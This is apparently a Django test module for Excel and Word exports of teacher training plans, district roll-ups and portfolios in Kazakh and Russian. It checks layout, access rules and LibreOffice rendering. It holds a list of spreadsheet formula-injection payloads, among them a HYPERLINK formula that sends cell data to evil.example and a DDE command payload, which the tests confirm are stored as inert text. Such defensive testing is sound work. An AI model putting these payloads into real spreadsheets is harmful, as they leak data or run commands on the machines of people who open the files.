"""The plan, roll-up and portfolio documents: content in Kazakh and Russian, formula safety,
access, and that LibreOffice opens them."""

from __future__ import annotations

import csv
import datetime
import io
import shutil
import subprocess
from pathlib import Path

import docx
import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext

from adisker.core.testing import Cast, StaffProfileFactory
from adisker.lib import documents
from adisker.lib.dates import today
from adisker.lib.documents import Column, Trusted, safe_text
from adisker.people.models import QualificationCategory, StaffProfile
from adisker.records.models import (
    Achievement,
    Attestation,
    EducationEntry,
    PlannedCourse,
    PositionEntry,
    QualificationCourse,
    SelfEducationTopic,
)
from adisker.schools.models import AcademicYear, Subject

ARTIFACTS = Path(settings.BASE_DIR) / "test-artifacts"
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ашу")',
    "+1",
    "-2",
    "@SUM(A1:A2)",
    "=1+1",
    "\t=1+1",
    " =2+2",
]


def add_course(staff: StaffProfile, finished_on: datetime.date, **changes: object) -> None:
    values = {
        "title": "Жаңартылған білім беру мазмұны",
        "provider": "«Өрлеу» БАҰО",
        "hours": 72,
        "format": QualificationCourse.Format.BLENDED,
        "started_on": finished_on - datetime.timedelta(days=11),
        "finished_on": finished_on,
        "certificate_number": "№ 0012345",
        "confirmed_at": timezone.now(),
        **changes,
    }
    QualificationCourse.objects.create(staff=staff, **values)


@pytest.fixture
def school_a(cast: Cast) -> Cast:
    """School A with named staff, subjects and courses, as a real plan would have."""
    school = cast.school_a
    school.name_kk = "№7 жалпы орта білім беретін мектеп"
    school.name_ru = "Общеобразовательная школа №7"
    school.save()
    math = Subject.objects.get(code="mathematics")
    expert = QualificationCategory.objects.get(code="expert")
    teacher = cast.teacher_a.staff_profile
    teacher.last_name, teacher.first_name, teacher.patronymic = "Жұмабаева", "Гүлнар", "Асанқызы"
    teacher.category = expert
    teacher.save()
    teacher.subjects.add(math)
    add_course(teacher, datetime.date(2023, 4, 14), hours=80)
    deputy = cast.deputy_a.staff_profile
    deputy.last_name, deputy.first_name, deputy.patronymic = "Сейітова", "Әлия", "Нұрланқызы"
    deputy.save()
    director = cast.director_a.staff_profile
    director.last_name, director.first_name, director.patronymic = "Оспанов", "Ерлан", "Бекұлы"
    director.save()
    PlannedCourse.objects.create(staff=director, year=today().year + 1)
    return cast


def read_xlsx(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def sheet_rows(content: bytes) -> list[list[object]]:
    sheet = read_xlsx(content).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def read_docx(content: bytes) -> docx.document.Document:
    return docx.Document(io.BytesIO(content))


def table_texts(table) -> list[list[str]]:  # type: ignore[no-untyped-def]
    return [[cell.text for cell in row.cells] for row in table.rows]


# The toolkit


@pytest.mark.parametrize("text", INJECTIONS)
def test_safe_text_keeps_a_formula_as_text(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Әбенова", "Smith-Jones", "72", "'quoted", ""])
def test_safe_text_leaves_ordinary_text_alone(text: str) -> None:
    assert safe_text(text) == text


def test_safe_text_drops_control_characters_and_trusts_only_our_marks() -> None:
    assert safe_text("Әбе\x0bнова\x00") == "Әбенова"
    assert safe_text(Trusted("+")) == "+"
    assert safe_text("+") == "'+"


def test_xlsx_table_never_holds_a_formula() -> None:
    columns = [
        Column("Name", lambda row: row[0], width=30),
        Column("When", lambda row: row[1], width=12),
        Column("Hours", lambda row: row[2], width=8, align="right"),
    ]
    rows = [(text, datetime.date(2025, 1, 2), 72) for text in INJECTIONS]
    content = documents.xlsx_table(
        ["=cmd|' /C calc'!A0", "Second line"], columns, rows, footer_lines=["-signature"]
    )
    sheet = read_xlsx(content).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.lstrip(" \t").startswith(("=", "+", "-", "@")), cell.value
    names = [sheet.cell(row=r, column=2).value for r in range(5, 5 + len(INJECTIONS))]
    assert names == ["'" + text for text in INJECTIONS]
    assert sheet.cell(row=5, column=3).value.date() == datetime.date(2025, 1, 2)
    assert sheet.cell(row=5, column=3).number_format == "DD.MM.YYYY"
    assert sheet.cell(row=5, column=4).value == 72


def test_xlsx_table_is_laid_out_for_printing() -> None:
    columns = [Column("Аты-жөні", lambda row: row, width=30)]
    sheet = read_xlsx(documents.xlsx_table(["Title"], columns, ["Әбенова"])).active
    assert sheet.freeze_panes == "A4"
    assert sheet["A3"].value == "№"
    assert sheet["B3"].font.b
    assert sheet["B3"].border.bottom.style == "thin"
    assert sheet.column_dimensions["B"].width == 30
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$3:$3"
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:B1"]


def test_docx_document_is_a4_in_times_new_roman() -> None:
    portrait = read_docx(documents.docx_bytes(documents.docx_document()))
    section = portrait.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert round(section.left_margin.mm) == 30
    normal = portrait.styles["Normal"]
    assert (normal.font.name, normal.font.size.pt) == ("Times New Roman", 14)
    landscape = read_docx(documents.docx_bytes(documents.docx_document(landscape=True)))
    section = landscape.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (297, 210)


# The school plan


def plan_download(client, cast: Cast, kind: str, language: str):  # type: ignore[no-untyped-def]
    url = reverse(f"records:plan_{kind}", args=[cast.school_a.pk])
    return client.get(f"{url}?language={language}")


@pytest.mark.parametrize("language", ["kk", "ru"])
def test_plan_xlsx_in_the_chosen_language(client, school_a: Cast, language: str) -> None:
    cast = school_a
    client.force_login(cast.deputy_a)
    response = plan_download(client, cast, "xlsx", language)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    school_name = getattr(cast.school_a, f"name_{language}")
    year = today().year
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert str(year) in disposition
    assert "%E2%84%967" in disposition  # "№7", percent-encoded in filename*
    rows = sheet_rows(response.content)
    with translation.override(language):
        assert school_name in rows[0][0]
        assert str(year) in rows[0][0]
        header = rows[3]
        assert header[:6] == [
            "№",
            gettext("Full name"),
            gettext("Position"),
            gettext("Subjects"),
            gettext("Category"),
            gettext("Last course (year, hours)"),
        ]
    assert header[6:] == [str(y) for y in range(year, year + 5)]
    body = {row[1]: row for row in rows[4:] if isinstance(row[0], int)}
    assert len(body) == 5
    assert [row[0] for row in rows[4:9]] == [1, 2, 3, 4, 5]
    teacher = body["Жұмабаева Гүлнар Асанқызы"]
    category = QualificationCategory.objects.get(code="expert")
    assert teacher[3] == "Математика"
    assert teacher[4] == getattr(category, f"name_{language}")
    assert teacher[5].startswith("2023, 80")
    assert teacher[6:11] == [None, None, "+", None, None]  # 2023 + 5 = 2028
    director = body["Оспанов Ерлан Бекұлы"]
    assert director[6:11] == [None, "+", None, None, None]  # planned ahead
    assert director[5] is None
    others = [row for name, row in body.items() if name.startswith("Әбенова")]
    assert all(row[6] == "+" for row in others)  # never trained: this year
    total = next(row for row in rows if row[1] and row[0] is None and row[7] is not None)
    assert total[6:11] == [3, 1, 1, 0, 0]
    assert any(row[1] and "Сейітова Ә. Н." in row[1] for row in rows[-2:])


@pytest.mark.parametrize("language", ["kk", "ru"])
def test_plan_docx_is_the_school_form(client, school_a: Cast, language: str) -> None:
    cast = school_a
    client.force_login(cast.director_a)
    response = plan_download(client, cast, "docx", language)
    assert response.status_code == 200
    assert "wordprocessingml" in response["Content-Type"]
    document = read_docx(response.content)
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (297, 210)
    texts = [p.text for p in document.paragraphs]
    school_name = getattr(cast.school_a, f"name_{language}")
    year = today().year
    title = next(text for text in texts if school_name in text)
    assert f"{year}–{year + 4}" in title
    assert any("Оспанов Е. Б." in text for text in texts[:4])  # approves
    assert "Сейітова Ә. Н." in texts[-1]  # signs
    (table,) = document.tables
    rows = table_texts(table)
    with translation.override(language):
        assert rows[0][:3] == ["№", gettext("Full name"), gettext("Position")]
    assert rows[0][6:] == [str(y) for y in range(year, year + 5)]
    teacher = next(row for row in rows if row[1] == "Жұмабаева Гүлнар Асанқызы")
    assert teacher[6:] == ["", "", "+", "", ""]
    assert len(rows) == 1 + 5 + 1
    assert rows[-1][6:] == ["3", "1", "1", "0", "0"]
    # The header repeats on every page.
    assert table.rows[0]._tr.trPr.xpath("./w:tblHeader")


def test_plan_export_cannot_start_a_formula(client, school_a: Cast) -> None:
    cast = school_a
    for text in INJECTIONS:
        StaffProfileFactory(school=cast.school_a, last_name=text, first_name="-x", patronymic="")
    client.force_login(cast.deputy_a)
    content = plan_download(client, cast, "xlsx", "kk").content
    sheet = read_xlsx(content).active
    names = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert not cell.value.lstrip(" \t").startswith(("=", "-", "@")), cell.value
        names.append(row[1].value)
    for text in INJECTIONS:
        assert f"'{text} -x" in names


@pytest.mark.parametrize(
    ("name", "status"),
    [("teacher_a", 403), ("deputy_b", 404), ("methodologist_b", 404), ("methodologist_a", 200)],
)
def test_plan_exports_follow_the_plan_access(client, cast: Cast, name: str, status: int) -> None:
    client.force_login(cast.user(name))
    for kind in ("xlsx", "docx"):
        url = reverse(f"records:plan_{kind}", args=[cast.school_a.pk])
        assert client.get(url).status_code == status


# The district roll-up


def test_district_xlsx_counts_each_school(client, school_a: Cast) -> None:
    cast = school_a
    client.force_login(cast.methodologist_a)
    url = reverse("records:district_plan_xlsx", args=[cast.district_a.pk])
    response = client.get(f"{url}?language=ru")
    assert response.status_code == 200
    rows = sheet_rows(response.content)
    assert cast.district_a.name_ru in rows[0][0]
    body = {row[1]: row[2:] for row in rows[4:] if isinstance(row[0], int)}
    # staff, within the period, %, overdue, never, due this year, planned this year
    assert body[cast.school_a.name_ru] == [5, 1, 20.0, 0, 4, 0, 0]
    assert body[cast.school_a2.name_ru] == [0, 0, None, 0, 0, 0, 0]
    assert rows[-1][2:] == [5, 1, 20.0, 0, 4, 0, 0]
    client.force_login(cast.deputy_a)
    rows = sheet_rows(client.get(url).content)
    assert [row[1] for row in rows[4:] if isinstance(row[0], int)] == [cast.school_a.name_kk]
    client.force_login(cast.methodologist_b)
    assert client.get(url).status_code == 404


# The portfolio


@pytest.fixture
def record(school_a: Cast) -> StaffProfile:
    staff = school_a.teacher_a.staff_profile
    EducationEntry.objects.create(
        staff=staff,
        level=EducationEntry.Level.BACHELOR,
        institution="Абай атындағы ҚазҰПУ",
        speciality="Математика",
        graduated_in=2010,
    )
    PositionEntry.objects.create(
        staff=staff,
        organisation="№7 мектеп",
        position="Математика пәнінің мұғалімі",
        started_on=datetime.date(2010, 9, 1),
    )
    Attestation.objects.create(
        staff=staff,
        category=QualificationCategory.objects.get(code="expert"),
        assigned_on=datetime.date(2022, 6, 1),
        valid_until=datetime.date(2027, 6, 1),
        order_number="№ 45-ж",
    )
    SelfEducationTopic.objects.create(
        staff=staff,
        academic_year=AcademicYear.objects.current(),
        topic="Функционалдық сауаттылықты дамыту",
    )
    Achievement.objects.create(
        staff=staff,
        kind=Achievement.Kind.OPEN_LESSON,
        title="=Бөлшектер",
        held_on=datetime.date(2025, 2, 12),
        level=Achievement.Level.DISTRICT,
    )
    return staff


@pytest.mark.parametrize("name", ["teacher_a", "deputy_a", "director_a", "methodologist_a"])
def test_portfolio_summarises_the_record(
    client, record: StaffProfile, school_a: Cast, name: str
) -> None:
    client.force_login(school_a.user(name))
    response = client.get(reverse("records:portfolio_docx", args=[record.pk]) + "?language=ru")
    assert response.status_code == 200
    assert (
        "%D0%96%D2%B1%D0%BC%D0%B0%D0%B1%D0%B0%D0%B5%D0%B2%D0%B0" in response["Content-Disposition"]
    )  # the teacher's surname
    document = read_docx(response.content)
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    texts = [p.text for p in document.paragraphs]
    assert "Жұмабаева Гүлнар Асанқызы" in texts[:3]
    assert "Оспанов Е. Б." in "".join(texts[-3:])
    personal, education, positions, courses, attestations, topics, achievements = document.tables
    fields = dict(table_texts(personal))
    assert school_a.school_a.name_ru in fields.values()
    assert "педагог-эксперт" in fields.values()
    assert table_texts(education)[1][1:3] == ["2010", "Абай атындағы ҚазҰПУ"]
    assert table_texts(positions)[1][1].startswith("2010")
    course = table_texts(courses)[1]
    assert course[1] == "03.04.2023–14.04.2023"
    assert course[3:5] == ["80", "№ 0012345"]
    assert table_texts(attestations)[1][1:4] == ["педагог-эксперт", "01.06.2022", "01.06.2027"]
    assert table_texts(topics)[1][2] == "Функционалдық сауаттылықты дамыту"
    assert table_texts(achievements)[1][3] == "=Бөлшектер"  # Word never computes


@pytest.mark.parametrize("name", ["teacher_b", "deputy_b", "methodologist_b", "head_a"])
def test_portfolio_is_hidden_from_other_schools(client, cast: Cast, name: str) -> None:
    client.force_login(cast.user(name))
    url = reverse("records:portfolio_docx", args=[cast.teacher_a.staff_profile.pk])
    assert client.get(url).status_code == 404


def test_the_record_page_offers_the_portfolio(client, cast: Cast) -> None:
    client.force_login(cast.teacher_a)
    staff = cast.teacher_a.staff_profile
    page = client.get(reverse("records:record", args=[staff.pk])).content.decode()
    assert reverse("records:portfolio_docx", args=[staff.pk]) in page


# LibreOffice

soffice = pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")


def convert(source: Path, target: str, workdir: Path) -> Path:
    """Convert with a private LibreOffice profile, so parallel runs do not lock each other."""
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{workdir}/profile",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(workdir),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return workdir / f"{source.stem}.{target.split(':')[0]}"


@soffice
def test_libreoffice_reads_the_formula_attempts_as_text(
    client, school_a: Cast, tmp_path: Path
) -> None:
    cast = school_a
    for text in INJECTIONS:
        StaffProfileFactory(school=cast.school_a, last_name=text, first_name="x", patronymic="")
    client.force_login(cast.deputy_a)
    source = tmp_path / "plan.xlsx"
    source.write_bytes(plan_download(client, cast, "xlsx", "kk").content)
    converted = convert(source, "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path)
    rows = list(csv.reader(converted.open(encoding="utf-8")))
    names = [row[1] for row in rows if len(row) > 1]
    for text in INJECTIONS:
        assert f"'{text} x" in names
    assert "2" not in names and "4" not in names  # =1+1 and =2+2 were not computed
    assert not any(cell.startswith("Ашу") for row in rows for cell in row)


@soffice
@pytest.mark.parametrize("kind", ["xlsx", "docx"])
def test_libreoffice_renders_the_plan(client, school_a: Cast, tmp_path: Path, kind: str) -> None:
    cast = school_a
    for index in range(12):
        staff = StaffProfileFactory(school=cast.school_a)
        if index % 3:
            add_course(staff, datetime.date(2019 + index % 6, 5, 20), hours=36 + index)
    client.force_login(cast.deputy_a)
    source = tmp_path / f"plan.{kind}"
    source.write_bytes(plan_download(client, cast, kind, "kk").content)
    pdf = convert(source, "pdf", tmp_path)
    assert pdf.read_bytes().startswith(b"%PDF")
    keep_rendering(pdf, f"plan-{kind}")


@soffice
def test_libreoffice_renders_the_portfolio(client, record: StaffProfile, tmp_path: Path) -> None:
    client.force_login(record.user)
    source = tmp_path / "portfolio.docx"
    source.write_bytes(client.get(reverse("records:portfolio_docx", args=[record.pk])).content)
    pdf = convert(source, "pdf", tmp_path)
    assert pdf.read_bytes().startswith(b"%PDF")
    keep_rendering(pdf, "portfolio-docx")


@soffice
def test_libreoffice_renders_the_district_roll_up(client, school_a: Cast, tmp_path: Path) -> None:
    client.force_login(school_a.methodologist_a)
    source = tmp_path / "district.xlsx"
    url = reverse("records:district_plan_xlsx", args=[school_a.district_a.pk])
    source.write_bytes(client.get(f"{url}?language=ru").content)
    pdf = convert(source, "pdf", tmp_path)
    assert pdf.read_bytes().startswith(b"%PDF")
    keep_rendering(pdf, "district-xlsx")


def keep_rendering(pdf: Path, name: str) -> None:
    """First page as PNG under test-artifacts/, for a person to look at."""
    if not shutil.which("pdftoppm"):
        return
    ARTIFACTS.mkdir(exist_ok=True)
    subprocess.run(
        ["pdftoppm", "-png", "-r", "70", "-f", "1", "-l", "1", str(pdf), str(ARTIFACTS / name)],
        check=True,
        timeout=60,
    )
